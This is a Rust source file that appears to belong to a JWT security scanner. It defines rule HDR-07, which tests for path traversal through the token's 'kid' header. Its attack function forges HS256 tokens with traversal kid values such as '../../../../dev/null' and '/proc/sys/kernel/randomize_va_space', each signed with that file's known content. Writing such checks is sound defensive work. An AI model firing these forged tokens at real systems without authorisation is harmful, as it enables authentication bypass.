//! HDR-07: kid path traversal.

use crate::live::{Plan, Scene};
use crate::rules::prelude::*;

pub(super) static RULE: Rule = Rule {
    id: "HDR-07",
    title: "kid path traversal",
    tier: Tier::Active,
    severity: Severity::Critical,
    references: "RFC 8725 3.10; WSTG-SESS-10; CWE-22",
    why: "A `kid` that is taken for a file's name makes the content of any file the secret, and some contents are known.",
    fix: "Look `kid` up in a map; it is no file's name.",
    bad: Example::behaviour("`kid: ../../../../dev/null` with a token signed by the empty secret is accepted."),
    good: Example::behaviour("`kid` is looked up in a map."),
    checks: &[Check::Attack(attack)],
};

fn attack(scene: &Scene) -> Plan {
    let forge = scene.forge();
    let files: [(&str, &[u8]); 8] = [
        ("/dev/null", b""),
        ("../../../../../../../../dev/null", b""),
        ("file:///dev/null", b""),
        ("....//....//....//....//....//dev/null", b""),
        ("nul", b""),
        ("/proc/sys/kernel/randomize_va_space", b"2\n"),
        ("../../../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
        ("../../../../../../../../proc/sys/kernel/randomize_va_space", b"2"),
    ];
    Plan::of(
        files
            .into_iter()
            .map(|(kid, content)| {
                forge.hmac(
                    &format!("kid {kid}, signed with the file's content"),
                    &forge.header("HS256").with("kid", kid.into()),
                    content,
                )
            })
            .collect(),
    )
}
